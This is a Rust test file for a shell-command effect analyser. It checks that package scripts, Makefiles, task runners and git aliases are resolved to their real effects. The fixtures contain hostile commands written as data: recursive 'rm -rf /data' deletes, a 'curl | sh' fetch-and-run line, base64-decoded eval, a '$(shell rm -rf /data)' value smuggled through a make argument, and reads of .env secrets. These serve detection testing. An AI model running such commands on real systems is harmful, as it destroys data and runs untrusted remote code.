//! Recipes of the project: found, read and understood like commands.

use std::collections::BTreeMap;

use palisade_core::{Certainty, EffectKind};
use palisade_shell::{Observer, Understanding, understand};

use super::support::{all, context};

/// Files of a project, and the folders they make.
struct Project(BTreeMap<String, String>);

impl Observer for Project {
    fn script(&self, path: &str) -> Option<String> {
        self.0.get(path).cloned()
    }

    fn folders(&self, path: &str) -> Vec<String> {
        let prefix = format!("{}/", path.trim_end_matches('/'));
        let mut names: Vec<String> = self
            .0
            .keys()
            .filter_map(|f| f.strip_prefix(&prefix)?.split_once('/'))
            .map(|(name, _)| name.to_owned())
            .collect();
        names.dedup();
        names
    }
}

fn look(files: &[(&str, &str)], command: &str) -> Understanding {
    let files = files
        .iter()
        .map(|(p, t)| ((*p).to_owned(), (*t).to_owned()))
        .collect();
    understand(command, &context(), &Project(files))
}

fn check(files: &[(&str, &str)], cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(command, expected)| {
            let got = all(&look(files, command)).join("; ");
            (got != *expected)
                .then(|| format!("{command}\n  expected {expected}\n  got      {got}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

const PACKAGE: &str = r#"{
  "name": "shop", "workspaces": ["packages/*"],
  "scripts": {
    "prebuild": "rm -rf dist", "build": "tsc", "postbuild": "touch done",
    "test": "jest", "gone": "rm -rf /data", "with": "rm -rf",
    "lint:a": "rm a", "lint:b": "rm b", "prepare": "rm hook",
    "loop": "npm run loop2", "loop2": "npm run loop; rm -rf /data",
    "sub": "cd sub && npm run build", "start": "rm started"
  }
}"#;

#[test]
fn scripts_of_packages() {
    let files = [
        ("/w/package.json", PACKAGE),
        (
            "/w/packages/a/package.json",
            r#"{"name":"@s/a","scripts":{"build":"rm -rf out"}}"#,
        ),
        (
            "/w/packages/b/package.json",
            r#"{"name":"b","scripts":{"other":"rm -rf /b"}}"#,
        ),
    ];
    check(
        &files,
        &[
            (
                "npm run build",
                "exec.project npm run build; file.delete /w/dist [r]; exec.project tsc; file.write /w/done",
            ),
            (
                "npm run gone",
                "exec.project npm run gone; file.delete /data [r]",
            ),
            (
                "npm run with -- src",
                "exec.project npm run with; file.delete /w/src [r]",
            ),
            (
                "npm run with src",
                "exec.project npm run with; file.delete /w/src [r]",
            ),
            ("pnpm gone", "exec.project pnpm gone; file.delete /data [r]"),
            ("yarn gone", "exec.project yarn gone; file.delete /data [r]"),
            (
                "bun run gone",
                "exec.project bun run gone; file.delete /data [r]",
            ),
            (
                "node --run gone",
                "exec.project node --run; file.delete /data [r]",
            ),
            (
                "npm start",
                "exec.project npm start; file.delete /w/started",
            ),
            ("npm ci", "package.locked npm ci; file.delete /w/hook"),
            ("npm ci --ignore-scripts", "package.locked npm ci"),
            ("npm install left-pad", "package.install left-pad"),
            (
                "run-p 'lint:*'",
                "exec.project run-p; file.delete /w/a; file.delete /w/b",
            ),
            (
                "concurrently npm:lint:a",
                "exec.project concurrently; file.delete /w/a",
            ),
            (
                "npm run loop",
                "exec.project npm run loop; exec.project npm run loop2; file.delete /data [r]",
            ),
            ("npm run none", "exec.project npm run none"),
            (
                "npm --prefix packages/a run build",
                "exec.project npm run build; file.delete /w/packages/a/out [r]",
            ),
            (
                "cd packages/a && yarn build",
                "exec.project yarn build; file.delete /w/packages/a/out [r]",
            ),
            (
                "npm run build -w @s/a",
                "exec.project npm run build; file.delete /w/packages/a/out [r]",
            ),
            (
                "pnpm --filter a build",
                "exec.project pnpm build; file.delete /w/packages/a/out [r]",
            ),
            (
                "yarn workspace b other",
                "exec.project yarn other; file.delete /b [r]",
            ),
            (
                "pnpm -r other",
                "exec.project pnpm other; file.delete /b [r]",
            ),
            (
                "pnpm rimraf /data",
                "exec.project pnpm rimraf; file.delete /data [r]",
            ),
        ],
    );
}

const MAKEFILE: &str = "\
OUT ?= build
include rules.mk
.PHONY: all clean
all: $(OUT)/x
$(OUT)/%: src/%.c
\t$(CC) -o $@ $<
clean:
\t-rm -rf $(OUT)
both: clean gone
sub:
\t$(MAKE) -C sub gone
unknown:
\trm -rf $(SOMETHING)/lib
";

#[test]
fn rules_of_makefiles() {
    let files = [
        ("/w/Makefile", MAKEFILE),
        ("/w/rules.mk", "gone:\n\trm -rf /data\n"),
        (
            "/w/sub/Makefile",
            "V := $(shell rm parsed)\ngone: ; rm here\n",
        ),
        ("/w/other.mk", "x:\n\trm other\n"),
    ];
    check(
        &files,
        &[
            (
                "make clean",
                "exec.project make clean; file.delete /w/build [r]",
            ),
            (
                "make both",
                "exec.project make both; file.delete /w/build [r]; file.delete /data [r]",
            ),
            (
                "make OUT=src clean",
                "exec.project make OUT=src; file.delete /w/src [r]",
            ),
            (
                "OUT=src make clean",
                "exec.project make clean; file.delete /w/src [r]",
            ),
            (
                "make -C sub gone",
                "exec.project make gone; file.delete /w/sub/parsed; file.delete /w/sub/here",
            ),
            (
                "make sub",
                "exec.project make sub; exec.project make gone; file.delete /w/sub/parsed; file.delete /w/sub/here",
            ),
            ("make -C sub -n", "file.delete /w/sub/parsed"),
            (
                "make -f other.mk",
                "exec.project make; file.delete /w/other",
            ),
            ("make unknown", "exec.project make unknown"),
            (
                "make clean X='$(shell rm -rf /data)'",
                "exec.project make clean; file.delete /data [r]; file.delete /w/build [r]",
            ),
            ("make none", "exec.project make none"),
            (
                "printf 'a:\\n\\trm -rf /data\\n' > Makefile; make",
                "file.write /w/Makefile; exec.project make; file.delete /data [r]",
            ),
        ],
    );
}

#[test]
fn recipes_of_task_runners() {
    let files = [
        (
            "/w/justfile",
            "out := 'dist'\nclean: pre\n  rm -rf {{out}}\npre:\n  rm pre\ngone what:\n  rm -rf {{what}}\n",
        ),
        (
            "/w/Taskfile.yml",
            "tasks:\n  default: rm default\n  a:\n    deps: [b]\n    dir: sub\n    cmds:\n      - rm {{.X}}\n  b: rm b\n",
        ),
        (
            "/w/pyproject.toml",
            "[tool.poe.tasks]\nt = ['u', { shell = 'rm t' }]\nu = 'rm u'\n[tool.pdm.scripts]\np = { composite = ['rm p'] }\n[tool.hatch.envs.default.scripts]\nh = 'rm h'\n",
        ),
        ("/w/Pipfile", "[scripts]\nq = \"rm q\"\n"),
        (
            "/w/composer.json",
            r#"{"scripts":{"c":["@d","rm c"],"d":"rm d","post-install-cmd":"rm hook"}}"#,
        ),
        (
            "/w/deno.jsonc",
            "{ // tasks\n \"tasks\": {\"z\": \"rm z\"} }",
        ),
        ("/w/tox.ini", "[testenv]\ncommands =\n  rm tox\n"),
        ("/w/Procfile", "web: rm web\nworker: rm worker\n"),
        ("/w/.envrc", "export A=1\nrm envrc\n"),
        (
            "/w/compose.yml",
            "services:\n  a:\n    image: x\n    volumes: ['/:/host']\n  b:\n    image: y\n",
        ),
    ];
    check(
        &files,
        &[
            (
                "just",
                "exec.project just; file.delete /w/pre; file.delete /w/dist [r]",
            ),
            (
                "just out=src clean",
                "exec.project just out=src; file.delete /w/pre; file.delete /w/src [r]",
            ),
            (
                "just gone /data clean",
                "exec.project just gone; file.delete /data [r]; file.delete /w/pre; file.delete /w/dist [r]",
            ),
            ("task", "exec.project task; file.delete /w/default"),
            (
                "task a X=y",
                "exec.project task a; file.delete /w/b; file.delete /w/sub/y",
            ),
            (
                "poe t",
                "exec.project poe t; file.delete /w/u; file.delete /w/t",
            ),
            ("poetry run poe u", "exec.project poe u; file.delete /w/u"),
            (
                "composer c",
                "exec.project composer c; file.delete /w/d; file.delete /w/c",
            ),
            (
                "composer install",
                "package.locked composer install; file.delete /w/hook",
            ),
            ("tox -e py", "exec.project tox py; file.delete /w/tox"),
            (
                "honcho start web",
                "exec.project honcho start; file.delete /w/web",
            ),
            ("docker compose up -d b", "exec.project docker compose up b"),
        ],
    );
    for (command, gone) in [
        ("pdm run p", "/w/p"),
        ("hatch run h", "/w/h"),
        ("pipenv run q", "/w/q"),
        ("deno task z", "/w/z"),
        ("direnv allow", "/w/envrc"),
    ] {
        let got = all(&look(&files, command));
        let wanted = format!("file.delete {gone}");
        assert!(got.contains(&wanted), "{command}: {got:?}");
    }
    let got = look(&files, "docker compose up -d");
    assert!(
        got.effects.iter().any(|e| e.kind == EffectKind::Privilege),
        "{got:?}"
    );
}

#[test]
fn aliases_of_git() {
    let files = [
        (
            "/w/.git/config",
            "[alias]\n\tst = status -s\n\tundo = reset --hard HEAD~1\n\tgone = \"!rm -rf /data; echo\"\n\tloop = !git loop\n",
        ),
        (
            "/home/u/.gitconfig",
            "[alias]\n\tyolo = push --force origin main\n",
        ),
        ("/other/.git/config", "[alias]\n\tst = !rm here\n"),
    ];
    let has = |command: &str, effect: &str| {
        let got = all(&look(&files, command));
        assert!(
            got.iter().any(|e| e.starts_with(effect)),
            "{command}: {got:?}"
        );
    };
    has("git st", "git.read");
    has("git undo", "git.discard");
    has("git gone x", "file.delete /data [r]");
    has("cd src && git gone", "file.delete /data [r]");
    has("git yolo", "git.force-push");
    has("git -C /other st", "file.delete /other/here");
    has("git --git-dir=/other/.git st", "file.delete");
    has("git loop", "exec.unknown git loop");
    let got = all(&look(&files, "git none"));
    assert_eq!(got, ["exec.unknown git none [?]"]);
}

#[test]
fn effects_say_where_they_were_found() {
    let files = [
        (
            "/w/package.json",
            r#"{"scripts":{"a":"rm dist; ./x.sh","b":"rm -rf"}}"#,
        ),
        ("/w/x.sh", "rm \"$1\" other\n. ./.env.sh\n"),
        ("/w/.env.sh", "export TOKEN=$(cat .env)\n"),
        ("/w/Makefile", "OUT=dist\nclean:\n\trm -rf $(OUT) fixed\n"),
    ];
    let via = |command: &str, path: &str| {
        let found = look(&files, command);
        let one = found.effects.iter().find(|e| e.path() == Some(path));
        one.unwrap_or_else(|| panic!("{command}: {found:?}"))
            .via
            .clone()
    };
    assert_eq!(via("npm run a", "/w/dist"), ["/w/package.json"]);
    assert_eq!(via("npm run a", "/w/other"), ["/w/package.json", "/w/x.sh"]);
    assert_eq!(
        via("npm run a", "/w/.env"),
        ["/w/package.json", "/w/x.sh", "/w/.env.sh"]
    );
    // What was typed decides, or was typed as well.
    assert!(via("npm run b -- src", "/w/src").is_empty());
    assert!(via("./x.sh ./sub/../src", "/w/sub/../src").is_empty());
    assert!(via("make clean OUT=src", "/w/src").is_empty());
    assert!(via("export OUT=src; make -e clean", "/w/fixed").contains(&"/w/Makefile".to_owned()));
    assert!(via("rm dist; npm run a", "/w/dist").is_empty());
    assert!(via("npm run a; rm dist", "/w/dist").is_empty());
    assert!(!via("npm run a", "/w/dist").is_empty());
    // Found twice: all of them count.
    assert_eq!(
        via("npm run a; ./x.sh", "/w/other"),
        ["/w/package.json", "/w/x.sh"]
    );
}

#[test]
fn what_a_script_reads_is_for_a_program_or_for_a_screen() {
    let files = [
        (
            "/w/used.sh",
            "set -a; . ./.env; export $(grep -v x .env.local | xargs); node a.js\n",
        ),
        ("/w/shown.sh", "cat .env; source .env.local; echo done\n"),
    ];
    let used = |command: &str| {
        look(&files, command)
            .effects
            .iter()
            .filter(|e| e.path().is_some_and(|p| p.contains("/.env")))
            .map(|e| (e.path().unwrap_or_default().to_owned(), e.facts.only_used))
            .collect::<Vec<_>>()
    };
    assert_eq!(
        used("./used.sh"),
        [
            ("/w/.env".to_owned(), true),
            ("/w/.env.local".to_owned(), true)
        ]
    );
    assert_eq!(
        used("./shown.sh"),
        [
            ("/w/.env".to_owned(), false),
            ("/w/.env.local".to_owned(), true)
        ]
    );
    // Typed, it is read by whoever typed it.
    assert_eq!(used(". ./.env"), [("/w/.env".to_owned(), false)]);
}

#[test]
fn what_a_script_fetches_and_runs_is_said() {
    let files = [(
        "/w/x.sh",
        "curl -s https://x.example | sh\neval \"$HOOK\"\nbash -c \"$(echo $X | base64 -d)\"\n",
    )];
    let found = look(&files, "./x.sh");
    let kinds: Vec<EffectKind> = found.effects.iter().map(|e| e.kind).collect();
    assert!(kinds.contains(&EffectKind::ExecFetched), "{found:?}");
    assert!(kinds.contains(&EffectKind::ExecOpaque), "{found:?}");
    assert!(
        !found
            .effects
            .iter()
            .any(|e| e.kind == EffectKind::ExecOpaque && e.certainty == Certainty::Opaque)
    );
}

#[test]
fn many_and_huge_and_cyclic_recipes_end() {
    let mut scripts = String::from("\"s0\":\"true\"");
    for i in 1..60 {
        scripts.push_str(&format!(",\"s{i}\":\"npm run s{0}; npm run s{0}\"", i - 1));
    }
    let wide = format!("{{\"scripts\":{{{scripts}}}}}");
    let mut files = vec![("/w/package.json".to_owned(), wide)];
    let mut calls = String::new();
    for i in 0..400 {
        files.push((
            format!("/w/big{i}.sh"),
            format!("#{}\n", "x".repeat(100_000)),
        ));
        calls.push_str(&format!("./big{i}.sh\n"));
    }
    files.push(("/w/all.sh".to_owned(), calls));
    files.push((
        "/w/Makefile".to_owned(),
        "a: a\n\tmake a\n\tmake b\nb: a\n\tmake -C . a\n".to_owned(),
    ));
    files.push((
        "/w/justfile".to_owned(),
        "a: b\n  just b\nb: a\n  just a\n".to_owned(),
    ));
    let project = Project(files.into_iter().collect());
    let limited = |command: &str| {
        let start = std::time::Instant::now();
        let found = understand(command, &context(), &project);
        assert!(start.elapsed().as_secs() < 20, "{command}");
        let kinds = found.effects.iter().map(|e| e.kind);
        kinds.into_iter().any(|k| k == EffectKind::LimitReached)
    };
    for command in [
        "npm run s6",
        "make a b",
        "just a",
        "npm run s2 && npm run s6",
    ] {
        assert!(!limited(command), "{command}");
    }
    for command in ["npm run s59", "./all.sh"] {
        assert!(limited(command), "{command}");
    }
}

/// Files that name themselves, multiply or nest without end are left, in
/// bounded time, and what stands before that is still seen.
#[test]
fn recipes_without_end() {
    let doubling = |set: &str, join: &str| -> String {
        let lines: Vec<String> = (1..60)
            .map(|i| format!("A{i}{set}{0}{join}{0}\n", format!("$(A{})", i - 1)))
            .collect();
        lines.concat()
    };
    let chain = |line: &dyn Fn(usize) -> String| -> String {
        (0..3_000).map(line).collect::<Vec<_>>().concat()
    };
    let scripts = |n: usize| -> String {
        let inner: Vec<String> = (0..n)
            .map(|i| format!("\"s{i}\": \"npm run s{} && npm run s{}\"", i + 1, i + 1))
            .collect();
        format!("{{\"scripts\": {{{}}}}}", inner.join(","))
    };
    for (command, file, text) in [
        (
            "make",
            "/w/Makefile",
            "include Makefile\ninclude ./Makefile\nx:\n\trm -rf /data\n".to_owned(),
        ),
        (
            "make",
            "/w/Makefile",
            format!(
                "A0 := aaaaaaaa\n{}x:\n\techo $(A59)\n\trm -rf /data\n",
                doubling(" = ", "")
            ),
        ),
        (
            "make",
            "/w/Makefile",
            format!(
                "A0 := aaaaaaaa\n{}x:\n\techo $(A59)\n\trm -rf /data\n",
                doubling(" := ", " ")
            ),
        ),
        (
            "make t0",
            "/w/Makefile",
            chain(&|i| format!("t{i}: t{} t{} t{i}\n\techo {i}\n", i + 1, i + 2)),
        ),
        (
            "make",
            "/w/Makefile",
            "x:\n\t$(MAKE) x\n\trm -rf /data\n".to_owned(),
        ),
        ("npm run s0", "/w/package.json", scripts(60)),
        (
            "npm run build",
            "/w/package.json",
            format!("{}{}", "{\"scripts\":".repeat(50_000), "}".repeat(50_000)),
        ),
        (
            "just t0",
            "/w/justfile",
            chain(&|i| format!("t{i}: t{} t{}\n  echo {i}\n", i + 1, i + 2)),
        ),
        (
            "just",
            "/w/justfile",
            "import 'justfile'\nmod a 'justfile'\nx:\n  just x\n".to_owned(),
        ),
        (
            "task t0",
            "/w/Taskfile.yml",
            format!(
                "version: '3'\nincludes:\n  a: Taskfile.yml\ntasks:\n{}",
                chain(&|i| format!("  t{i}:\n    deps: [t{}, t{}]\n", i + 1, i + 2))
            ),
        ),
        (
            "docker compose up",
            "/w/compose.yaml",
            format!(
                "a: &a [x]\n{}services: *z\n",
                chain(&|i| format!("b{i}: &b{i} [*a, *a]\n"))
            ),
        ),
        (
            "docker compose up",
            "/w/compose.yaml",
            format!("services: {}", "[".repeat(100_000)),
        ),
        (
            "docker compose up",
            "/w/compose.yaml",
            chain(&|i| format!("{}a:\n", " ".repeat(i / 2))),
        ),
        (
            "poe x",
            "/w/pyproject.toml",
            format!("a = {}", "[".repeat(100_000)),
        ),
        (
            "poe x",
            "/w/pyproject.toml",
            format!("{}\n", "[a".to_owned() + &".a".repeat(50_000) + "]"),
        ),
        (
            "git x",
            "/w/.git/config",
            "[include]\n\tpath = config\n[alias]\n\tx = !git x\n\ty = x\n".to_owned(),
        ),
        (
            "direnv exec . true",
            "/w/.envrc",
            "source_env .\nsource .envrc\n".to_owned(),
        ),
    ] {
        let start = std::time::Instant::now();
        let got = all(&look(&[(file, &text)], command));
        // Debug builds under load: the bound is for what grows without end.
        assert!(
            start.elapsed() < std::time::Duration::from_secs(40),
            "{command}: {text:.60}"
        );
        assert!(!got.is_empty(), "{command}: {text:.60}");
        if text.contains("rm -rf /data") {
            assert!(
                got.iter()
                    .any(|e| e.starts_with("file.delete /data") || e.starts_with("limit.reached")),
                "{command}: {got:?} {text:.60}"
            );
        }
    }
}
